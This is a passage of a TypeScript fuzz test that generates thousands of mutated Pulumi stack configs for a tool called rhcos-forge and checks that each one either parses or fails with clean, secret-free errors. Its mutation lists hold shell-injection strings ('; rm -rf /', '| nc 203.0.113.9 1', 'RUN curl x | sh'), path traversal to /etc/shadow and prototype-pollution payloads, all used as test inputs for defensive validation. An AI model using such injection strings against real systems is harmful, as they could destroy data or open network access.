// Bad input at scale: a property test of the stack config over 10,000+ generated stacks.
//
// Each stack is a committed one (Pulumi.dev.yaml with the test secrets, or Pulumi.local.yaml)
// with one to four mutations at keys taken from the zod schema itself (components/config/
// schema.ts), so a key added there is fuzzed without touching this file: random values, wrong
// types, near-misses of the value in place (a tag for a digest, uppercase, spaces, shell
// metacharacters, unicode, huge numbers, very long lists), valid enum values (to reach the
// cross-field checks), deleted keys, unknown keys and unparsable JSON text. Each one must
// either parse or fail with a ConfigError whose every problem is one line naming a real key
// (`rhcos-forge:<path>` that exists in the schema, or an unknown key it truthfully calls
// unknown), with no other exception and no test secret in the message.
//
// A sample of the stacks that parse then runs the program under the Pulumi mocks, the way
// index.ts does (runProgram: buildPipeline(parseStackConfig(allConfig()))), and every OpenShift
// object it registers must validate against the CRD schema of the stack's OpenShift release; a
// sample of the rejected ones must fail on that same entry path with nothing registered.
//
// Why one mocks runtime for many programs is sound here: the runtime is process-global, but the
// mocks keep no state between programs except the registration log (each run is judged on its
// own slice of it), setAllConfig overwrites the whole config map, and the runs are strictly
// sequential, each awaited until its outputs have resolved and registrations have settled.
// Resource names repeat across runs; the mocks, unlike an engine, do not check URN uniqueness.
//
// Reproduce a run with RF_FUZZ_SEED=<seed printed below>; RF_FUZZ_RUNS changes the count of stacks,
// RF_FUZZ_PROGRAMS the size of the program sample.
import * as pulumi from "@pulumi/pulumi";
import fc from "fast-check";
import assert from "node:assert/strict";
import { it } from "node:test";
import { z } from "zod";
import { ConfigError, SECRET_KEYS, parseStackConfig } from "../../../components/config/parse";
import { NAMESPACE, StackConfig, stackConfigSchema } from "../../../components/config/schema";
import { checkReleaseGate } from "../../../components/image/baseGate";
import {
    MIRROR_REVISION_ARG,
    renderContainerfile,
    renderOnClusterContainerfile,
} from "../../../components/image/containerfile";
import { JsonTree, minimalStack, parseProblems, patched } from "../configCases";
import { validateAgainstCrd } from "../crds";
import * as harness from "../harness";
import { loadStackConfig } from "../stackFile";
import { ENTITLEMENT_PATH } from "../../../components/mirror/clusterEntitlement";
import { DRIVER_TOOLKIT_BASE, DRIVER_TOOLKIT_PATH } from "../../../components/image/driverToolkit";
import { usesClusterEntitlement } from "../../../components/config/rhelContent";
import { ClusterAccess } from "../../../components/rollout/kubeApi";
import { realClock } from "../../../components/rollout/poll";
import { throwawayPkcs8Key } from "../throwawayKeys";

harness.installMocks();

/**
 * What an accepted stack's program reads from the cluster while it runs (the entitlement Secret
 * for `entitlement: cluster`, the driver-toolkit ImageStream for a `driver-toolkit` stage base),
 * served so the program runs as against a cluster that has them. The rollout waits read the
 * cluster too, and nothing here plays a rolling pool: a stack that reads the cluster and also
 * waits on it (a kubeconfig without cluster.renderTo) is left out of the program sample, and
 * counted; test/unit/pipeline/{rhelContent,driverToolkit}.test.ts run those with a fake cluster.
 */
const FAKE_ENT_CERT = "-----BEGIN CERTIFICATE-----\nMIIfuzz-entitlement-cert\n-----END CERTIFICATE-----\n";
const FAKE_ENT_KEY = throwawayPkcs8Key();
const FAKE_DTK = `quay.io/openshift-release-dev/ocp-v4.0-art-dev@sha256:${"d".repeat(64)}`;
const clusterReads: ClusterAccess = {
    connect: () => ({
        get: async (path: string) => {
            const b64 = (t: string) => Buffer.from(t).toString("base64");
            if (path === ENTITLEMENT_PATH)
                return {
                    kind: "Secret",
                    data: { "entitlement.pem": b64(FAKE_ENT_CERT), "entitlement-key.pem": b64(FAKE_ENT_KEY) },
                };
            if (path === DRIVER_TOOLKIT_PATH)
                return {
                    kind: "ImageStream",
                    spec: { tags: [{ name: "latest", from: { kind: "DockerImage", name: FAKE_DTK } }] },
                };
            throw new Error(`the fuzz test's cluster serves no ${path}`);
        },
    }),
    pollMs: 1,
    clock: realClock,
};
const readsCluster = (cfg: StackConfig): boolean =>
    usesClusterEntitlement(cfg) || cfg.image.stages.some(s => s.base === DRIVER_TOOLKIT_BASE);
const waitsOnCluster = (cfg: StackConfig): boolean =>
    cfg.kubeconfig !== undefined && cfg.cluster.renderTo === undefined;
let leftOut = 0;

const SEED =
    process.env.RF_FUZZ_SEED !== undefined ? Number(process.env.RF_FUZZ_SEED) : Math.floor(Math.random() * 2 ** 31);
const RUNS = Number(process.env.RF_FUZZ_RUNS ?? 10_000);
/** Accepted stacks run through the program under mocks (each is a full program run). */
const PIPELINE_SAMPLE = Number(process.env.RF_FUZZ_PROGRAMS ?? 30);
/** Rejected stacks checked on the program's entry path for "nothing registered". */
const REJECTED_SAMPLE = 25;

// ------------------------------------------------------------------ the keys, from the schema
type KeyNode =
    | { readonly kind: "object"; readonly fields: Map<string, KeyNode>; readonly open: boolean }
    | { readonly kind: "array"; readonly element: KeyNode }
    | { readonly kind: "record"; readonly value: KeyNode }
    | { readonly kind: "leaf"; readonly values: readonly unknown[] };

const ANY: KeyNode = { kind: "leaf", values: [] };

function unwrap(schema: z.ZodTypeAny): z.ZodTypeAny {
    let s = schema;
    for (;;) {
        if (s instanceof z.ZodDefault || s instanceof z.ZodOptional || s instanceof z.ZodNullable) s = s._def.innerType;
        else if (s instanceof z.ZodEffects) s = s._def.schema;
        else return s;
    }
}

function merge(a: KeyNode, b: KeyNode): KeyNode {
    if (a.kind === "object" && b.kind === "object") {
        const fields = new Map(a.fields);
        for (const [k, v] of b.fields) fields.set(k, fields.has(k) ? merge(fields.get(k) as KeyNode, v) : v);
        return { kind: "object", fields, open: a.open || b.open };
    }
    if (a.kind === "leaf" && b.kind === "leaf") return { kind: "leaf", values: [...a.values, ...b.values] };
    return a;
}

function toNode(schema: z.ZodTypeAny): KeyNode {
    const s = unwrap(schema);
    if (s instanceof z.ZodObject) {
        const shape = s.shape as Record<string, z.ZodTypeAny>;
        return {
            kind: "object",
            fields: new Map(Object.entries(shape).map(([k, v]) => [k, toNode(v)])),
            open: s._def.unknownKeys === "passthrough",
        };
    }
    if (s instanceof z.ZodDiscriminatedUnion || s instanceof z.ZodUnion) {
        const options = (s instanceof z.ZodUnion ? s._def.options : s.options) as z.ZodTypeAny[];
        return options.map(toNode).reduce(merge);
    }
    if (s instanceof z.ZodArray) return { kind: "array", element: toNode(s.element) };
    if (s instanceof z.ZodRecord) return { kind: "record", value: toNode(s._def.valueType) };
    if (s instanceof z.ZodEnum) return { kind: "leaf", values: s.options as string[] };
    if (s instanceof z.ZodLiteral) return { kind: "leaf", values: [s.value] };
    return { kind: "leaf", values: [] };
}

const ROOT = toNode(stackConfigSchema);

/** A path segment: an object field, ARRAY (some element of a list) or RECORD (some key of a map). */
const ARRAY = "[]";
const RECORD = "{}";
interface Key {
    readonly path: readonly string[];
    readonly node: KeyNode;
}

function keysOf(node: KeyNode, path: string[] = []): Key[] {
    const here = path.length > 0 ? [{ path, node }] : [];
    if (node.kind === "object") return [...here, ...[...node.fields].flatMap(([k, v]) => keysOf(v, [...path, k]))];
    if (node.kind === "array") return [...here, ...keysOf(node.element, [...path, ARRAY])];
    if (node.kind === "record") return [...here, ...keysOf(node.value, [...path, RECORD])];
    return here;
}

const KEYS = keysOf(ROOT);
const isSecretKey = (path: readonly string[]): boolean => (SECRET_KEYS as readonly string[]).includes(path[0]);

// ------------------------------------------------------------------ a problem names a real key
const PREFIX = `${NAMESPACE}:`;
const UNKNOWN = " is not a known key";

/** Why a problem line does not name a key of the schema; undefined when it does. */
function notNamingAKey(problem: string): string | undefined {
    if (/[\r\n]/.test(problem)) return "spans several lines";
    if (!problem.startsWith(PREFIX)) return `does not start with ${PREFIX}`;
    let rest = problem.slice(PREFIX.length);
    let node: KeyNode = ROOT;
    for (let first = true; ; first = false) {
        if (rest.startsWith(" ")) return first ? "names no key" : undefined;
        if (rest === "") return "has no message after the key";
        const index = /^\[(\d+)\]/.exec(rest);
        if (index !== null) {
            if (node.kind !== "array") return `indexes [${index[1]}] into something that is not a list`;
            node = node.element;
            rest = rest.slice(index[0].length);
            continue;
        }
        let name: string;
        const quoted = /^\[("(?:[^"\\]|\\.)*")\]/.exec(rest);
        if (quoted !== null) {
            name = JSON.parse(quoted[1]) as string;
            rest = rest.slice(quoted[0].length);
        } else {
            if (!first) {
                if (!rest.startsWith("."))
                    return `has ${JSON.stringify(rest.slice(0, 20))} where a key segment should be`;
                rest = rest.slice(1);
            }
            // Keys other than [A-Za-z0-9_-]+ come quoted (the branch above), as in `pulumi config set --path`.
            const plain = /^[A-Za-z0-9_-]+/.exec(rest);
            if (plain === null) return "has an empty key segment";
            name = plain[0];
            rest = rest.slice(name.length);
        }
        if (node.kind === "record") {
            node = node.value;
            continue;
        }
        if (node.kind !== "object") return `descends into ${JSON.stringify(name)} below a value`;
        const field = node.fields.get(name);
        if (field !== undefined) {
            node = field;
            continue;
        }
        if (node.open) {
            node = ANY;
            continue;
        }
        if (rest.startsWith(UNKNOWN)) return undefined;
        return `names ${JSON.stringify(name)}, which is not a key of the schema`;
    }
}

// ------------------------------------------------------------------ mutations
const DIGEST_HEX = "0123456789abcdef".repeat(4);
const SHELL = [
    "; rm -rf /",
    "$(touch /tmp/pwned-fuzz)",
    "`id`",
    "| nc 203.0.113.9 1",
    "&& reboot",
    "\nRUN curl x | sh",
    "'",
    '"',
    "\\",
    "${IFS}",
    "*",
    "\r\n",
    "#",
];
const UNICODE = ["é", "\u202e", "\u200b", "ｆｒａ１", "\u0000", "🦀", "\ud800", "İ", "\u0085", "\u2028"];
const NUMBERS = [0, -1, 1.5, 65536, 2 ** 31, 2 ** 53 + 2, 1e21, 1e308, -1e308, Number.MAX_SAFE_INTEGER, -0];
/** A valid-looking value for a key the base stack does not have, to near-miss from. */
const SEEDS = [
    "quay.io/org/x@sha256:" + DIGEST_HEX,
    "registry.example.com/org/rhcos",
    "release-4.19",
    "fra1",
    "worker",
    "/etc/x.conf",
    "0644",
    "https://example.com/repo/",
    "10%",
    "a".repeat(40),
];

const NEAR_MISSES = [
    "tagForDigest",
    "upper",
    "space",
    "shell",
    "unicode",
    "long",
    "dotdot",
    "absolute",
    "truncate",
    "empty",
    "numberText",
    "duplicate",
    "secret",
] as const;
type NearMiss = (typeof NEAR_MISSES)[number];

type Mutation =
    | { readonly op: "nearMiss"; readonly how: NearMiss; readonly pick: number }
    | { readonly op: "value"; readonly value: unknown }
    | { readonly op: "valid"; readonly pick: number }
    | { readonly op: "longList"; readonly length: number; readonly pick: number }
    | { readonly op: "delete" }
    | { readonly op: "unknownKey"; readonly name: string };

/** A value holding a test secret in a shape its key refuses (only ever used at secret keys). */
function secretShapes(pick: number): unknown {
    const s = harness.SECRET_VALUES[pick % harness.SECRET_VALUES.length];
    const shapes: unknown[] = [
        s,
        { auth: s },
        [s],
        { "bad id!": s },
        { "rhel-9-appstream": [s] },
        { "rhel-9-appstream": 7, x: s },
        `${s} ${s}`,
    ];
    return shapes[Math.floor(pick / harness.SECRET_VALUES.length) % shapes.length];
}

function nearMissString(s: string, how: NearMiss, pick: number, secretKey: boolean): unknown {
    switch (how) {
        case "tagForDigest":
            return /@sha256:[0-9a-f]+/.test(s)
                ? s.replace(/@sha256:[0-9a-f]+/, [":latest", ":4.19", "@sha256:abc", "@SHA256:" + DIGEST_HEX][pick % 4])
                : `${s}:latest`;
        case "upper":
            return s.toUpperCase() === s ? s.toLowerCase() + "X" : s.toUpperCase();
        case "space":
            return [
                ` ${s}`,
                `${s} `,
                s.slice(0, pick % (s.length + 1)) + " " + s.slice(pick % (s.length + 1)),
                `${s}\t`,
            ][pick % 4];
        case "shell":
            return pick % 2 === 0 ? s + SHELL[pick % SHELL.length] : SHELL[pick % SHELL.length] + s;
        case "unicode":
            return s.slice(0, pick % (s.length + 1)) + UNICODE[pick % UNICODE.length] + s.slice(pick % (s.length + 1));
        case "long":
            return (s || "a").repeat(Math.ceil(4096 / Math.max(1, s.length)));
        case "dotdot":
            return [`../${s}`, `${s}/../../etc/shadow`, "..", `${s}/..`][pick % 4];
        case "absolute":
            return ["/etc/passwd", `/${s}`, "/tmp/../etc", "//" + s][pick % 4];
        case "truncate":
            return s.slice(0, pick % Math.max(1, s.length));
        case "empty":
            return "";
        case "numberText":
            return [String(NUMBERS[pick % NUMBERS.length]), "1e400", "0x1F", "08", "NaN"][pick % 5];
        case "duplicate":
            return s + s;
        case "secret":
            return secretKey ? secretShapes(pick) : s;
    }
}

function nearMiss(current: unknown, how: NearMiss, pick: number, secretKey: boolean): unknown {
    if (how === "secret" && secretKey) return secretShapes(pick);
    if (typeof current === "string") return nearMissString(current, how, pick, secretKey);
    if (typeof current === "number")
        return [
            current + 1,
            current - 1,
            -current,
            current * 1e9,
            current + 0.5,
            String(current),
            NUMBERS[pick % NUMBERS.length],
        ][pick % 7];
    if (typeof current === "boolean") return [String(current), current ? 1 : 0, "yes", null][pick % 4];
    if (Array.isArray(current)) {
        if (current.length === 0) return [nearMissString(SEEDS[pick % SEEDS.length], how, pick, secretKey)];
        const i = pick % current.length;
        if (how === "duplicate") return [...current, current[i]];
        return current.map((v, j) => (j === i ? nearMiss(v, how, Math.floor(pick / 7), secretKey) : v));
    }
    if (current !== null && typeof current === "object") {
        const keys = Object.keys(current);
        if (keys.length === 0) return { [nearMissString("key", how, pick, false) as string]: "x" };
        const k = keys[pick % keys.length];
        const copy: JsonTree = { ...(current as JsonTree) };
        if (how === "upper" || how === "space") {
            // The key itself near-missed: a misspelled field.
            copy[nearMissString(k, how, pick, false) as string] = copy[k];
            delete copy[k];
            return copy;
        }
        copy[k] = nearMiss(copy[k], how, Math.floor(pick / 7), secretKey);
        return copy;
    }
    return nearMissString(SEEDS[pick % SEEDS.length], how, pick, secretKey);
}

function elementFor(node: KeyNode, pick: number): unknown {
    if (node.kind === "object") return {};
    if (node.kind === "array") return [];
    if (node.kind === "record") return {};
    return node.values.length > 0 ? node.values[pick % node.values.length] : SEEDS[pick % SEEDS.length];
}

function mutate(current: unknown, key: Key, m: Mutation): unknown {
    switch (m.op) {
        case "nearMiss":
            return nearMiss(current, m.how, m.pick, isSecretKey(key.path));
        case "value":
            return m.value;
        case "valid":
            return elementFor(key.node, m.pick);
        case "longList": {
            const item =
                Array.isArray(current) && current.length > 0
                    ? current[m.pick % current.length]
                    : key.node.kind === "array"
                      ? elementFor(key.node.element, m.pick)
                      : (current ?? "x");
            // Long, but bounded (~200 kB of JSON): lists of lists of long strings would not fit in a string at all.
            const size = Math.max(1, JSON.stringify(item ?? null).length);
            return Array.from({ length: Math.max(1, Math.min(m.length, Math.floor(200_000 / size))) }, () => item);
        }
        case "delete":
            return undefined;
        case "unknownKey":
            return current;
    }
}

/** Applies one mutation at `key` in the stack (creating the containers on the way when missing). */
function apply(stack: JsonTree, key: Key, m: Mutation, pick: number): void {
    let cur: JsonTree = stack;
    const path = key.path;
    for (let i = 0; i < path.length - 1; i++) {
        const seg = path[i];
        const next = path[i + 1];
        const want = (v: unknown): boolean =>
            next === ARRAY ? Array.isArray(v) : v !== null && typeof v === "object" && !Array.isArray(v);
        const fresh = (): unknown => (next === ARRAY ? [] : {});
        if (seg === ARRAY) {
            const list = cur as unknown as unknown[];
            if (list.length === 0) list.push(fresh());
            const j = pick % list.length;
            if (!want(list[j])) list[j] = fresh();
            cur = list[j] as JsonTree;
        } else {
            const k =
                seg === RECORD ? (Object.keys(cur)[pick % Math.max(1, Object.keys(cur).length)] ?? "fuzz-key") : seg;
            if (!want(cur[k])) cur[k] = fresh();
            cur = cur[k] as JsonTree;
        }
    }
    const last = path[path.length - 1];
    if (m.op === "unknownKey") {
        const target = last === ARRAY || last === RECORD ? cur : cur[last];
        if (target !== null && typeof target === "object" && !Array.isArray(target))
            (target as JsonTree)[m.name] = "fuzz";
        else cur[`${last === ARRAY || last === RECORD ? "fuzz" : last}${m.name}`] = "fuzz";
        return;
    }
    if (last === ARRAY) {
        const list = cur as unknown as unknown[];
        if (list.length === 0) list.push(elementFor(key.node, pick));
        const j = pick % list.length;
        const v = mutate(list[j], key, m);
        if (v === undefined) list.splice(j, 1);
        else list[j] = v;
        return;
    }
    const k = last === RECORD ? (Object.keys(cur)[pick % Math.max(1, Object.keys(cur).length)] ?? "fuzz-key") : last;
    const v = mutate(cur[k], key, m);
    if (v === undefined) delete cur[k];
    else cur[k] = v;
}

// ------------------------------------------------------------------ stacks
const BASES: Record<string, JsonTree> = {
    dev: treeOf(loadStackConfig("dev", harness.TEST_SECRETS)),
    local: treeOf(loadStackConfig("local")),
};

function treeOf(allConfig: Record<string, string>): JsonTree {
    const tree: JsonTree = {};
    for (const [k, text] of Object.entries(allConfig)) {
        const key = k.slice(PREFIX.length);
        // Structured keys come as JSON text, string keys (the key files, kubeconfig) as they are.
        const node = ROOT.kind === "object" ? ROOT.fields.get(key) : undefined;
        tree[key] = node === undefined || node.kind === "leaf" ? text : JSON.parse(text);
    }
    return tree;
}

/** The stack as the engine hands it over: `rhcos-forge:key` → text (structured values as JSON). */
function allConfigOf(tree: JsonTree, texts: readonly (readonly [string, string])[]): Record<string, string> {
    const out: Record<string, string> = {};
    for (const [k, v] of Object.entries(tree)) out[`${PREFIX}${k}`] = typeof v === "string" ? v : JSON.stringify(v);
    for (const [k, text] of texts) out[`${PREFIX}${k}`] = text;
    return out;
}

const TOP_KEYS = [...(ROOT.kind === "object" ? ROOT.fields.keys() : [])];
const hostileText = fc.oneof(
    fc.constantFrom(
        "{",
        "[1,",
        "1e400",
        "null",
        '"text"',
        '{"__proto__": {"polluted": true}}',
        '{"constructor": {"prototype": {}}}',
        "",
        " ",
        "[]",
        "{}",
    ),
    fc.string({ maxLength: 40 }),
);
/** Text holding a test secret (only ever given to secret keys): unparsable, or a bare secret. */
const secretText = fc
    .nat()
    .map(
        n =>
            [
                `{"x": "${harness.SECRET_VALUES[n % harness.SECRET_VALUES.length]}"`,
                `${harness.SECRET_VALUES[n % harness.SECRET_VALUES.length]}`,
            ][n % 2],
    );
const topText = fc
    .constantFrom(...TOP_KEYS, "fuzzUnknown", "buildhost")
    .chain(k => fc.tuple(fc.constant(k), isSecretKey([k]) ? fc.oneof(hostileText, secretText) : hostileText));

const wrongType = fc.oneof(
    fc.integer(),
    fc.double({ noNaN: false }),
    fc.boolean(),
    fc.constant(null),
    fc.constantFrom(...NUMBERS),
    fc.string({ maxLength: 30 }),
    fc.string({ unit: "grapheme", maxLength: 30 }),
    fc.string({ unit: "binary", maxLength: 30 }),
    fc.array(fc.string({ maxLength: 10 }), { maxLength: 5 }),
    fc.dictionary(fc.string({ maxLength: 10 }), fc.string({ maxLength: 10 }), { maxKeys: 4 }),
    fc.jsonValue({ maxDepth: 3 }),
);

const unknownName = fc.oneof(
    fc.string({ minLength: 1, maxLength: 20 }),
    fc
        .constantFrom(...KEYS.map(k => k.path[k.path.length - 1]).filter(s => s !== ARRAY && s !== RECORD))
        .chain(n => fc.constantFrom(n.toUpperCase(), `${n} `, `${n}s`, n.slice(1) || "x", `${n}\u200b`)),
    fc.constantFrom("__proto__", "constructor", "toString", "a b", "a.b", "a[0]", "x\ny"),
);

const mutation: fc.Arbitrary<Mutation> = fc.oneof(
    {
        weight: 5,
        arbitrary: fc.record({
            op: fc.constant("nearMiss" as const),
            how: fc.constantFrom(...NEAR_MISSES),
            pick: fc.nat(),
        }),
    },
    { weight: 3, arbitrary: fc.record({ op: fc.constant("value" as const), value: wrongType }) },
    { weight: 3, arbitrary: fc.record({ op: fc.constant("valid" as const), pick: fc.nat() }) },
    {
        weight: 1,
        arbitrary: fc.record({
            op: fc.constant("longList" as const),
            length: fc.integer({ min: 200, max: 3000 }),
            pick: fc.nat(),
        }),
    },
    { weight: 1, arbitrary: fc.constant({ op: "delete" as const }) },
    { weight: 1, arbitrary: fc.record({ op: fc.constant("unknownKey" as const), name: unknownName }) },
);

interface Generated {
    readonly base: string;
    readonly allConfig: Record<string, string>;
}

const stackArb: fc.Arbitrary<Generated> = fc
    .record({
        base: fc.constantFrom(...Object.keys(BASES)),
        edits: fc.array(fc.record({ key: fc.nat({ max: KEYS.length - 1 }), mutation, pick: fc.nat() }), {
            minLength: 1,
            maxLength: 4,
        }),
        texts: fc.array(topText, { maxLength: 1 }),
        textOdds: fc.nat({ max: 9 }),
    })
    .map(({ base, edits, texts, textOdds }) => {
        const tree = structuredClone(BASES[base]);
        for (const e of edits) apply(tree, KEYS[e.key], e.mutation, e.pick);
        // Raw text (unparsable JSON, huge literals) at a top-level key, in one stack out of ten.
        return { base, allConfig: allConfigOf(tree, textOdds === 0 ? texts : []) };
    });

// ------------------------------------------------------------------ the property
const secretKeysOf = (cfg: Record<string, string>): string[] =>
    Object.keys(cfg).filter(k => isSecretKey([k.slice(PREFIX.length)]));
const leaked = (text: string): string[] => harness.SECRET_VALUES.filter(s => text.includes(s));

const counts = { tried: 0, rejected: 0, accepted: 0 };
let gatePassed = 0;

/**
 * The release gate refuses, at rollout time, an image built on another base than the cluster's
 * (the mocks' CLUSTER_BASE): a fact of the cluster, not of the config, so by design not a config
 * error (test/unit/rollout/baseGateProgram.test.ts covers it). Such stacks stay out of the
 * program sample.
 */
function refusedByReleaseGate(cfg: StackConfig): boolean {
    if (cfg.kubeconfig === undefined || cfg.image.builder !== "podman" || cfg.rollout.method !== "machineconfig")
        return false;
    const imageBase = cfg.image.base === "cluster" ? harness.CLUSTER_BASE : cfg.image.base;
    return !checkReleaseGate({
        imageBase,
        clusterBase: harness.CLUSTER_BASE,
        allowMismatch: cfg.image.allowBaseMismatch,
    }).ok;
}
const accepted: Generated[] = [];
const rejected: Generated[] = [];

/** Keeps a uniform sample of at most `size` items (reservoir sampling, driven by the seeded stream). */
function keep(sample: Generated[], size: number, seen: number, item: Generated, draw: number): void {
    if (sample.length < size) sample.push(item);
    else if (draw % seen < size) sample[draw % size] = item;
}

it(`${RUNS} generated stacks each parse or fail with a ConfigError naming real keys, never a secret`, () => {
    const started = Date.now();
    console.log(`config fuzz: seed ${SEED} (reproduce with RF_FUZZ_SEED=${SEED}); ${KEYS.length} keys from the schema`);
    const details = fc.check(
        fc.property(stackArb, fc.nat(), (g, draw) => {
            counts.tried++;
            let error: unknown;
            let cfg: StackConfig | undefined;
            try {
                cfg = parseStackConfig(g.allConfig);
            } catch (e) {
                error = e;
            }
            if (cfg !== undefined) {
                counts.accepted++;
                const rendered = renderedContainerfile(cfg);
                if (rendered !== undefined)
                    assert.equal(
                        containerfileProblem(rendered),
                        undefined,
                        `rendered from ${JSON.stringify(cfg.image).slice(0, 400)}`,
                    );
                if (readsCluster(cfg) && waitsOnCluster(cfg)) leftOut++;
                else if (!refusedByReleaseGate(cfg)) keep(accepted, PIPELINE_SAMPLE, ++gatePassed, g, draw);
                return;
            }
            if (!(error instanceof ConfigError)) {
                throw new Error(`not a ConfigError: ${error instanceof Error ? error.stack : String(error)}`);
            }
            counts.rejected++;
            keep(rejected, REJECTED_SAMPLE, counts.rejected, g, draw);
            assert.ok(error.problems.length > 0, "a ConfigError lists its problems");
            for (const p of error.problems) {
                const why = notNamingAKey(p);
                assert.equal(why, undefined, `problem ${JSON.stringify(p.slice(0, 300))} ${why}`);
            }
            assert.deepEqual(leaked(error.message), [], `a secret in ${JSON.stringify(error.message.slice(0, 500))}`);
        }),
        { seed: SEED, numRuns: RUNS },
    );
    if (details.failed) {
        // The shrunk stack, each key cut short: the full one is reproduced with the seed.
        const stack = details.counterexample?.[0].allConfig ?? {};
        // A secret key's value is not shown: the seed reproduces it.
        const shown = Object.entries(stack).map(([k, v]) =>
            secretKeysOf({ [k]: v }).length > 0
                ? `  ${k}: (secret, ${v.length} chars)`
                : `  ${k}: ${v.length > 400 ? `${v.slice(0, 400)}... (${v.length} chars)` : v}`,
        );
        const error = details.errorInstance;
        assert.fail(
            `seed ${SEED}, path ${String(details.counterexamplePath)}: ` +
                `${error instanceof Error ? error.message : String(error)}\n${shown.join("\n")}`,
        );
    }
    console.log(
        `config fuzz: tried ${counts.tried}, rejected ${counts.rejected}, accepted ${counts.accepted} ` +
            `(${leftOut} read and wait on the cluster: not in the program sample) in ` +
            `${((Date.now() - started) / 1000).toFixed(1)}s`,
    );
    assert.equal(counts.tried, RUNS);
    // The mutations must reach both outcomes for the rest of the test to mean anything.
    assert.ok(counts.accepted >= PIPELINE_SAMPLE && counts.rejected >= REJECTED_SAMPLE, JSON.stringify(counts));
});

// Control characters and $ are refused where they break rendering.
it("pins fuzzing finds: odd keys quoted, control characters and $ refused, names need a mirror", () => {
    const base = minimalStack();
    const problems = (patch: (c: JsonTree) => void): string[] =>
        parseProblems(patched(() => structuredClone(base), patch));
    assert.deepEqual(
        problems(c => {
            c.buildHost["port "] = 22;
        }),
        [
            'rhcos-forge:buildHost["port "] is not a known key (check its spelling against the README\'s ' +
                "config reference)",
        ],
    );
    assert.deepEqual(
        problems(c => {
            c.image.labels = { "a.b": "x\u0000y" };
        }),
        [
            'rhcos-forge:image.labels["a.b"] must be a label value without ", \\, $ or control characters, ' +
                'got "x\\u0000y"',
        ],
    );
    assert.equal(
        problems(c => {
            c.image.labels = { a: "$HOME" };
        }).length,
        1,
    );
    assert.deepEqual(
        problems(c => {
            c.image.extraSteps = ["echo a\u001bb"];
        }),
        ['rhcos-forge:image.extraSteps[0] must not hold control characters (tabs are fine), got "echo a\\u001bb"'],
    );
    assert.deepEqual(
        problems(c => {
            c.image.extraSteps = ["echo\ta"];
            c.image.labels = { a: "plain value" };
        }),
        [],
    );
    assert.deepEqual(
        problems(c => {
            c.image.replace = ["rf-lib"];
        }),
        [
            "rhcos-forge:image.replace[0] is a package name, which comes from the build host's mirror, but " +
                'rhcos-forge:mirror.repos is empty; add the repo it comes from, or give an RPM URL, got "rf-lib"',
        ],
    );
    for (const p of problems(c => {
        c.mirror = { repos: [{ id: "a\r\nb", baseurl: "https://x.example/", username: "u", gpgcheck: false }] };
    })) {
        assert.equal(notNamingAKey(p), undefined, p);
    }
    assert.equal(
        problems(c => {
            c.mirror = { repos: [{ id: "a", baseurl: "https://x.example/", gpgkey: "https://x.example/k\u0000ey" }] };
        }).length,
        1,
    );
    // The rules repo-mirror.sh and build-image.sh enforce on the host, refused here with the key.
    assert.equal(
        problems(c => {
            c.mirror = { bind: ".." };
        }).length,
        1,
    );
    assert.equal(
        problems(c => {
            c.image.buildArgs = ["--volume", "/:/host"];
        }).length,
        2,
    );
    assert.deepEqual(
        problems(c => {
            c.mirror = { bind: "::" };
            c.image.buildArgs = ["--isolation", "chroot", "--network", "host"];
        }),
        [],
    );
});

/** A program run must settle; a rejected Output would leave it pending, which fails here instead of hanging. */
async function guarded<T>(what: string, p: Promise<T>): Promise<T> {
    let timer: NodeJS.Timeout | undefined;
    const stuck = new Promise<never>((_, reject) => {
        timer = setTimeout(() => reject(new Error(`${what} did not settle`)), 30_000);
    });
    try {
        return await Promise.race([p, stuck]);
    } finally {
        clearTimeout(timer);
    }
}

/**
 * Every accepted stack's Containerfile, through the pure renderers (the program sample renders
 * it again through LayeredImage): the mirror repos as RepoMirror hands them to the build (the
 * package set only when it has packages), at a stand-in address. A renderer that throws on an
 * accepted stack is a defect like any other. Undefined for cosa builds (no Containerfile).
 */
function renderedContainerfile(cfg: StackConfig): string | undefined {
    if (cfg.image.builder === "cosa") return undefined;
    if (cfg.rollout.method === "machineosconfig") return renderOnClusterContainerfile(cfg.image);
    const set = cfg.mirror.packageSet.packages.length > 0 ? [cfg.mirror.packageSet.id] : [];
    const repos = [...cfg.mirror.repos.map(r => r.id), ...set].map(id => {
        const upstream = cfg.mirror.repos.find(r => r.id === id);
        return {
            id,
            url: `http://10.0.0.2:${cfg.mirror.port}/${id}/`,
            gpgcheck: upstream?.gpgcheck ?? false,
            gpgkey: upstream?.gpgkey,
        };
    });
    const base = cfg.image.base === "cluster" ? harness.CLUSTER_BASE : cfg.image.base;
    return renderContainerfile({ ...cfg.image, base }, { repos, replaceRepo: set[0] }).containerfile;
}

/**
 * Why a rendered Containerfile does not say what the config said; undefined when it does. Each
 * line must be an instruction rhcos-forge writes or the continuation of one (a newline in a
 * value would start an instruction of its own), with no control characters, and the LABEL
 * instruction must hold no `$` (the builder expands $VAR there, so the label would not be the
 * value given).
 */
function containerfileProblem(text: string): string | undefined {
    let continued = false;
    let inLabel = false;
    for (const line of text.replace(/\n$/, "").split("\n")) {
        if (/[\u0000-\u0008\u000b-\u001f\u007f]/.test(line))
            return `line ${JSON.stringify(line.slice(0, 120))} holds a control character`;
        if (!continued) {
            if (!/^(# |FROM |COPY |RUN |LABEL )/.test(line) && line !== `ARG ${MIRROR_REVISION_ARG}`)
                return `line ${JSON.stringify(line.slice(0, 120))} is no instruction rhcos-forge writes`;
            inLabel = line.startsWith("LABEL ");
        }
        if (inLabel && line.includes("$"))
            return `LABEL line ${JSON.stringify(line.slice(0, 120))} holds a $ the builder would expand`;
        continued = line.endsWith("\\");
    }
    return undefined;
}

function plainStrings(value: unknown, out: string[] = []): string[] {
    if (harness.isSecret(value)) return out;
    if (typeof value === "string") out.push(value);
    else if (Array.isArray(value)) value.forEach(v => plainStrings(v, out));
    else if (value !== null && typeof value === "object") Object.values(value).forEach(v => plainStrings(v, out));
    return out;
}

it(`a sample of the accepted stacks registers only valid objects under mocks`, async () => {
    const started = Date.now();
    let objects = 0;
    for (const g of accepted) {
        const cfg = parseStackConfig(g.allConfig);
        pulumi.runtime.setAllConfig(g.allConfig, secretKeysOf(g.allConfig));
        const from = harness.registrations.length;
        const program = await guarded(
            `the program of ${JSON.stringify(g.allConfig).slice(0, 300)}`,
            (async () => {
                const p = await harness.runProgram(readsCluster(cfg) ? { access: clusterReads } : {});
                await harness.valueOf(pulumi.output(p.release));
                await harness.valueOf(pulumi.output(p.cosa));
                await harness.settle();
                return p;
            })(),
        );
        const containerfile = await harness.valueOf(program.containerfile);
        assert.equal(
            containerfileProblem(containerfile),
            undefined,
